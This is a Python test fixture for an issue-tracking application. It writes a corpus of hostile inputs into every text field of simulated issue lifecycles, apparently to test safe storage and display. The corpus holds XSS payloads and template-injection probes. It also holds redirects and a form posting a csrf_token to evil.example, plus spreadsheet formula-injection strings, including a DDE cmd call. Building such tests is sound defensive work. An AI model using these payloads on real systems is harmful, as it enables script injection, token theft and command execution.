"""Texts that mean harm, and a life of an issue that has one in every field that people write in.

Every text is one that the ledger takes: controls and marks that turn the direction of what follows
are refused at the door (`domain.model`), so what is here is what can come to be shown.
"""

from typing import Any, Final

import builders as b
import builders_orders as bo
import builders_sign_off as bs
from desks import Counter

from desk.supervising import SupervisionDesk
from domain import commands as cmd
from domain import commands_of_time as tm
from domain import order_commands as oc
from domain.commands_of_ladder import Urge
from domain.duration_text import read_duration
from domain.handbook import Handbook
from domain.issue import Evidence, Promise, Resolution
from domain.orders import PersonGround
from domain.phases import Duty, PauseReason, ResultClass
from domain.team import PartAsked
from domain.terms import Terms

SCRIPTS: Final = (
    "<script>window.__xss=1</script>",
    '"><img src=x onerror="window.__xss=1">',
    "'><svg/onload=window.__xss=1>",
    "</textarea></title></style><script>window.__xss=1</script>",
    '" autofocus onfocus="window.__xss=1" x="',
    "javascript:window.__xss=1",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<a href="javascript:window.__xss=1">x</a>',
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    '<div hx-get="//evil.example" hx-trigger="load" data-chart="bar"></div>',
    "<style>*{display:none}</style><form action=//evil.example><input name=csrf_token>",
    "&lt;b&gt; &amp;amp; &#x3C;script&#x3E;",
    "</script><script>window.__xss=1//",
    "<!--<script>window.__xss=1//--><![CDATA[x]]>",
)
TEMPLATES: Final = (
    "{{7*7}} {% raw %} {{ visit.house }} ${7*7} #{7*7} <%= 7*7 %>",
    "{0} {name} %s %n %(x)s {} }{",
    "{# a remark #}{{''.__class__.__mro__}}",
)
FORMULAS: Final = (
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3+cmd",
    "@SUM(1+1)",
    "＝1+1",
    "＠SUM(1)",
    "'=1+1",
)
CHARACTERS: Final = (
    "\u200b\u200c\u200d\ufeffzero\u2060width\u200e\u200f",
    "مرحبا بالعالم שלום",
    "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿𠮷野家 𝕏",
    "长" * 200,
    "W" * 200,
    "\u3000\u00a0a\u2028b",
)
MARKDOWN: Final = (
    "[click](http://evil.example) ![x](http://evil.example/x.png)",
    '<at user_id="all">all</at> <@all> @all',
    "**bold** `code` # heading > quote ~~x~~",
    "<font color=warning>red</font>",
)
CORPUS: Final = (*SCRIPTS, *TEMPLATES, *FORMULAS, *CHARACTERS, *MARKDOWN)
WHOLE: Final = "\n".join(each for each in CORPUS if len(each) < 150)  # 4,000 in all
"""All of them as one long text."""


def nth(number: int) -> str:
    """Return a text of the corpus; there is always a next one."""
    return CORPUS[number % len(CORPUS)]


def named(number: int) -> dict[str, str]:
    """Return a name in two languages that means harm in both."""
    return {"zh": nth(number), "en": nth(number + 1)}


def hostile_terms() -> Terms:
    """Return the small zone's terms, every name in its handbook a text of the corpus."""
    base = bs.sign_off_terms(link_hours=24, says_silence=True)
    data: dict[str, Any] = base.handbook.model_dump(mode="json", exclude_defaults=True)
    data["supervision"] = bo.SUPERVISION
    number = 0
    for family in ("tiers", "areas", "grids", "units", "posts", "enterprises", "categories"):
        for each in data[family]:
            each["name"] = named(number)
            number += 1
    for each in data["clocks"]:
        each["name"] = named(number)
        number += 1
    data["name"] = named(number)
    return Terms(handbook=Handbook.model_validate(data), calendar=base.calendar)


async def lived(counter: Counter) -> list[str]:
    """Tell the lives of issues that have a text of the corpus wherever somebody writes one; return
    their keys. One is open with a team, one at its sign-off, one closed, one turned away."""
    number = 0

    def text() -> str:
        nonlocal number
        number += 1
        return nth(number)

    for place, title in enumerate(CORPUS):
        await counter.do(b.report(title=title, text=WHOLE), b.ENTERPRISE, key=f"title-{place}")
    await _with_a_team(counter, text)
    await _at_sign_off(counter, text)
    await _closed(counter, text)
    await counter.do(b.report(title=text(), text=text()), b.ENTERPRISE, key="away")
    away = b.TURN_AWAY.model_copy(update={"reason": text(), "referral": text()})
    await counter.do(away, key="away")
    await _orders(counter, text)
    titles = [f"title-{place}" for place in range(len(CORPUS))]
    return ["team", "asked", "closed", "away", *titles]


async def _with_a_team(counter: Counter, text: Any) -> None:
    key = "team"
    await counter.do(b.report(title=text(), text=WHOLE), b.ENTERPRISE, key=key)
    await counter.do(cmd.Note(text=WHOLE), b.ENTERPRISE, key=key)
    await counter.do(b.ACCEPT, key=key)
    await counter.do(
        cmd.Note(text=text(), evidence=(Evidence(reference=text()), Evidence(reference=text()))),
        key=key,
    )
    await counter.do(tm.Contact(channel="telephone", note=text()), key=key)
    await counter.do(tm.MakePlan(plan=text()), key=key)
    await counter.do(cmd.Pause(reason=PauseReason.WAITING_ENTERPRISE, note=text()), key=key)
    await counter.do(cmd.Resume(note=text()), key=key)
    await counter.do(tm.DemandReply(question=text()), b.SUPERVISOR, key=key)
    await counter.do(tm.GiveReply(reply=text()), key=key)
    await counter.do(Urge(text=text()), b.SUPERVISOR, key=key)
    await counter.do(cmd.Escalate(reason=text()), key=key)
    parts = (
        PartAsked(id="survey", unit="roads", duty=Duty.LEAD, deliverable=text()),
        PartAsked(id="cable", unit="power", duty=Duty.CO, deliverable=text()),
    )
    convene = cmd.ConveneTeam(lead="roads", parts=parts, reason=text())
    await counter.do(convene, b.HEAD, key=key)
    await counter.do(cmd.AcceptPart(part="survey"), b.SECTION, key=key)
    finish = cmd.FinishPart(part="survey", summary=text(), evidence=(Evidence(reference=text()),))
    await counter.do(finish, b.SECTION, key=key)


async def _at_sign_off(counter: Counter, text: Any) -> None:
    key = "asked"
    await counter.do(b.report(title=text(), text=text()), b.ENTERPRISE, key=key)
    await counter.do(b.ACCEPT, key=key)
    await counter.do(_proposed(text), key=key)
    await counter.do(cmd.Reject(reason=text(), satisfaction=1), b.ENTERPRISE, key=key)
    await counter.do(_proposed(text), key=key)


async def _closed(counter: Counter, text: Any) -> None:
    key = "closed"
    await counter.do(b.report(title=text(), text=text()), b.ENTERPRISE, key=key)
    await counter.do(b.ACCEPT, key=key)
    await counter.do(_proposed(text), key=key)
    await counter.do(cmd.Confirm(note=text(), satisfaction=5), b.ENTERPRISE, key=key)
    await counter.do(cmd.SendBack(reason=text()), b.DIRECTOR, key=key)
    await counter.do(_proposed(text), key=key)
    await counter.do(cmd.Confirm(note=text(), satisfaction=5), b.ENTERPRISE, key=key)
    await counter.do(cmd.Verify(note=text()), b.DIRECTOR, key=key)


async def _orders(counter: Counter, text: Any) -> None:
    desk = SupervisionDesk(counter.desk)
    asked = bo.issue(
        ground=PersonGround(words=text()), issues=("team",), question=text(), unit="roads"
    )
    for command, actor in (
        (asked, b.SUPERVISOR),
        (oc.ReplyToOrder(text=text()), b.SECTION),
        (oc.RefuseReply(reason=text()), b.SUPERVISOR),
        (oc.AppealOrder(reason=text()), b.SECTION),
    ):
        await desk.carry_out(bo.submission(command, actor))


def _proposed(text: Any) -> cmd.ProposeResolution:
    return cmd.ProposeResolution(
        resolution=Resolution(
            result=ResultClass.PARTLY,
            summary=text(),
            reason=text(),
            evidence=(Evidence(reference=text()),),
            follow_up=Promise(text=text(), within=read_duration("10wd")),
        )
    )
